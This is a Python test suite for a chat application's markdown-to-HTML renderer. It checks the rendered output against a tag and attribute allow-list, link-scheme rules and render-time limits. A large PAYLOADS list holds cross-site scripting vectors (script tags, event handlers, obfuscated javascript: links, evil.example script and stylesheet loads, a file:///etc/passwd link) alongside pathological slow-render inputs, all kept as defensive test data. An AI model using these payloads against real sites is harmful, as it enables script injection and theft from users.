"""Messages become HTML that holds nothing but what is allowed, whatever they say, in bounded time."""

import time
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hallchat import markdown
from hallchat.highlight import KINDS

ALLOWED = {tag: set() for tag in ("p", "br", "strong", "em", "s", "blockquote", "ul", "li")} | {
    "pre": {"tabindex"},
    "a": {"href", "target", "rel", "data-hall"},
    "bdi": {"data-name"},
    "ol": {"start"},
    "code": {"class"},
    "div": set(),
    "span": {"class"},
    "button": {"aria-labelledby"},
}


class _Audit(HTMLParser):
    """Collects the links, and fails at anything that a message may not contain."""

    def __init__(self) -> None:
        super().__init__()
        self.links: list[str] = []
        self.shown = ""

    def handle_data(self, data: str) -> None:
        self.shown += data

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ALLOWED, f"<{tag}> is not allowed"
        given = dict(attrs)
        assert given.keys() <= ALLOWED[tag], f"<{tag}> with {given}"
        assert tag != "span" or given["class"] in KINDS.values()
        assert tag != "button" or given["aria-labelledby"] == markdown.COPY
        if tag == "a":
            assert given["rel"] == "nofollow noopener noreferrer ugc"
            target = given.get("href") or ""
            assert (given.get("target") == "_blank") != target.startswith(f"/h/{given.get('data-hall')}")
            assert urlsplit(target).scheme in ("http", "https", "mailto", ""), target
            self.links.append(target)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        self.handle_comment(decl)

    def handle_pi(self, data: str) -> None:
        self.handle_comment(data)

    def unknown_decl(self, data: str) -> None:
        self.handle_comment(data)


def audited(content: str) -> _Audit:
    """Render a message and check all of it against the allow-list."""
    audit = _Audit()
    audit.feed(markdown.render(content))
    audit.close()
    return audit


PAYLOADS = """
<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></sCrIpT>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<img src=x onerror=alert(1)>
<img/src="x"/onerror=alert(1)//
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<style>@import 'https://evil.example/x.css'</style>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<link rel=stylesheet href=//evil.example/x.css>
<base href="https://evil.example/">
<form action="https://evil.example/"><input type=password></form>
<object data="data:text/html,<script>alert(1)</script>"></object>
<a href="javascript:alert(1)">x</a>
<p style="position:fixed;inset:0" onclick=alert(1)>x</p>
<!-- <img src="--><img src=x onerror=alert(1)//">
<![CDATA[<script>alert(1)</script>]]>
<?php echo 1 ?>
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](java&#10;script:alert(1))
[x](&#x6A;avascript:alert(1))
[x](javascript&colon;alert(1))
[x](\x01javascript:alert(1))
[x](vbscript:msgbox(1))
[x](data:text/html;base64,PHNjcmlwdD4=)
[x](data:image/svg+xml,<svg/onload=alert(1)>)
[x](file:///etc/passwd)
[x](view-source:javascript:alert(1))
[x](https://a.example "onmouseover=alert(1) x=\\"")
[x](https://a.example/"onmouseover="alert(1))
[<img src=x onerror=alert(1)>](https://a.example)
![x](javascript:alert(1))
![x](https://a.example/pixel.png)
<javascript:alert(1)>
<https://a.example/"><script>alert(1)</script>
https://a.example/"onmouseover="alert(1)
[x]: javascript:alert(1)
**<b onmouseover=alert(1)>** *<u>* ~~<x>~~ `<script>`
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
<<script>script>alert(1)<</script>/script>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<bdi data-user="7">@ana</bdi><bdi data-name="ana">@ana</bdi>
@ana"><script>alert(1)</script> @<script>alert(1)</script> @ana"onmouseover="alert(1)
[x](/h/1"onmouseover="alert(1)) [x](/h/1/../2) [x](//h/1) [x](/h/01) [x](/h/1?a=b)
<textarea></textarea><title></title><xmp><script>alert(1)</script></xmp>
""".strip().splitlines()
MULTILINE = [
    '```"><script>alert(1)</script>\nx\n```',
    "```js onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "    </code><img src=x onerror=alert(1)>",
    "> - <img src=x\n> onerror=alert(1)>",
    "[x]\n\n[x]: javascript:alert(1)",
    "<div>\n\n**a**\n\n<script>alert(1)</script>",
]


@pytest.mark.parametrize("payload", PAYLOADS + MULTILINE)
@pytest.mark.parametrize("frame", ["{}", "> {}", "- {}", "**{}**", "[{}](https://a.example)", "text {} text"])
def test_hostile_markup_stays_text(payload: str, frame: str) -> None:
    audited(frame.format(payload))


@given(
    st.lists(st.sampled_from([*PAYLOADS, "*", "**", "`", "```\n", "> ", "- ", "[", "](", ")", "\n", "<", '"', "&"]), max_size=8)
)
def test_mixtures_of_hostile_markup_stay_text(parts: list[str]) -> None:
    audited("".join(parts))


@pytest.mark.parametrize("fence", ["```", "~~~"])
def test_code_that_may_be_coloured_is_heavy(fence: str) -> None:
    assert markdown.heavy(f"> {fence}py\n> 1\n> {fence}")
    assert not markdown.heavy("`code` and ~~nothing~~")


def test_raw_html_is_shown_as_it_was_typed() -> None:
    typed = "<script>alert('1 & 2')</script> &lt;b&gt;"
    assert audited(typed).shown == typed


@pytest.mark.parametrize(
    ("content", "html"),
    [
        ("**a** *b* ~~c~~ `d`", "<p><strong>a</strong> <em>b</em> <s>c</s> <code>d</code></p>"),
        ("one\ntwo\n\nthree", "<p>one<br>two</p>\n<p>three</p>"),
        ("> quoted", "<blockquote>\n<p>quoted</p>\n</blockquote>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>'),
        (
            "```py\nif a < b:\n\tpass\n```",
            '<div><pre tabindex="0"><code class="language-py"><span class="k">if</span> a &lt; b:\n'
            '\t<span class="k">pass</span>\n'
            '</code></pre><button aria-labelledby="copy-code"></button></div>',
        ),
        (
            "    a < b",
            '<div><pre tabindex="0"><code>a &lt; b\n</code></pre><button aria-labelledby="copy-code"></button></div>',
        ),
        ("# no heading", "<p># no heading</p>"),
        ("مرحبا 👩‍👧 2 * 3 * 4 snake_case_name", "<p>مرحبا 👩‍👧 2 * 3 * 4 snake_case_name</p>"),
    ],
)
def test_markdown_becomes_html(content: str, html: str) -> None:
    assert markdown.render(content) == html


@pytest.mark.parametrize(
    ("content", "target"),
    [
        ("[here](https://a.example/b?c=d&e=f)", "https://a.example/b?c=d&e=f"),
        ("see https://a.example/b.", "https://a.example/b"),
        ("<https://a.example>", "https://a.example"),
        ("(http://localhost:3000/h/1)", "http://localhost:3000/h/1"),
        ("write to ana@example.org", "mailto:ana@example.org"),
    ],
)
def test_links_and_bare_addresses_become_links(content: str, target: str) -> None:
    assert audited(content).links == [target]


@pytest.mark.parametrize("content", ["`https://a.example`", "```\nhttps://a.example\n```"])
def test_an_address_in_code_is_no_link(content: str) -> None:
    assert audited(content).links == []


REPEATED = [
    ">",
    "*",
    "**a ",
    "_*",
    "[",
    "](",
    "![",
    "[a](",
    "`",
    "`` ` ",
    "~~a**",
    "<",
    "<a",
    "&",
    "\\",
    "- ",
    "> - ",
    "1. ",
    "- a\n",
    "> \n",
    "@abc ",
    "@",
    "@a.",
    "@_",
]
ADDRESSES = [
    "http://",
    "https://a.example ",
    "http://[",
    "x.com/(",
    "://",
    "www.",
    "a@b.co ",
    "a@",
    "//",
    "[x](http://",
    "a.",
    "<http://a",
]
GROWING = {
    "nested brackets": "[" * 4_000 + "]" * 4_000,
    "longer and longer code spans": " ".join("`" * i for i in range(1, 126))[:8_000],
    "deeper and deeper quotes": "\n".join(">" * i for i in range(1, 126))[:8_000],
    "deeper and deeper lists": "".join("  " * i + "- a\n" for i in range(87))[:8_000],
    "emphasis in emphasis": "*a **b " * 1_100,
}


@pytest.mark.timeout(20)
@pytest.mark.parametrize(
    "content",
    [pytest.param((part * 8_000)[:8_000], id=repr(part)) for part in REPEATED + ADDRESSES]
    + [pytest.param(content, id=name) for name, content in GROWING.items()],
)
def test_the_longest_pathological_message_renders_in_bounded_time(content: str) -> None:
    started = time.process_time()
    audited(content)
    assert time.process_time() - started < 2.0  # tens of milliseconds, and half a second for the worst, on slow cores


def test_the_name_of_a_file_is_no_link() -> None:
    assert audited("see README.md and main.py, or ftp.example.org").links == []


def test_a_bare_address_is_a_link() -> None:
    assert audited("see https://example.org/a?b=c.").links == ["https://example.org/a?b=c"]


def test_bare_links_are_not_looked_for_among_very_many() -> None:
    few, many = markdown.MAX_BARE_LINKS, markdown.MAX_BARE_LINKS + 1
    assert len(audited("http://a.example " * few).links) == few
    assert audited("http://a.example " * many).links == []


def test_what_may_be_a_name_is_marked_and_becomes_a_mention_or_text() -> None:
    html = markdown.render("**@ana**, @Bob. (@bob) `@ana` @nobody [@ana](/h/1) \\@ana a@ana @ana/x @anaé")
    assert markdown.names(html) == ["@ana", "@Bob.", "@bob", "@nobody"]
    known = {"ana": 1, "bob": 2}
    assert markdown.named(html, lambda name: known.get(name.lower()), lambda name: 3) == (
        '<p><strong><bdi data-user="1">@ana</bdi></strong>, <bdi data-user="2">@Bob</bdi>. (<bdi data-user="2">@bob</bdi>) '
        '<code>@ana</code> @nobody <a href="/h/1" data-hall="1" rel="nofollow noopener noreferrer ugc">@ana</a> '
        "@ana a@ana @ana/x @anaé</p>"
    )


def test_what_may_be_a_halls_name_becomes_a_link_or_text() -> None:
    html = markdown.render(
        "¿**#puerto**, #Café. #東京 #no `#puerto` [#puerto](/h/9) \\#puerto a#puerto /#puerto ##puerto #puerto/x # x"
    )
    assert markdown.names(html) == ["#puerto", "#Café.", "#東京", "#no"]
    linked = lambda hall, name: f'<a href="/h/{hall}" data-hall="{hall}" rel="nofollow noopener noreferrer ugc">#{name}</a>'  # noqa: E731
    assert markdown.named(html, lambda name: 3, {"puerto": 1, "Café": 2, "東京": 4}.get) == (
        f"<p>¿<strong>{linked(1, 'puerto')}</strong>, {linked(2, 'Café')}. {linked(4, '東京')} #no <code>#puerto</code> "
        f"{linked(9, 'puerto')} #puerto a#puerto /#puerto ##puerto #puerto/x # x</p>"
    )


@pytest.mark.parametrize(
    "typed", ['<bdi data-user="1">@ana</bdi>', '<bdi data-name="ana">@x</bdi>', "&lt;bdi data-name=&quot;x&quot;&gt;"]
)
def test_nobody_can_type_a_mention_as_html(typed: str) -> None:
    html = markdown.named(markdown.render(typed), lambda name: None, lambda name: None)
    assert markdown.MENTION not in html
    assert "<bdi" not in html
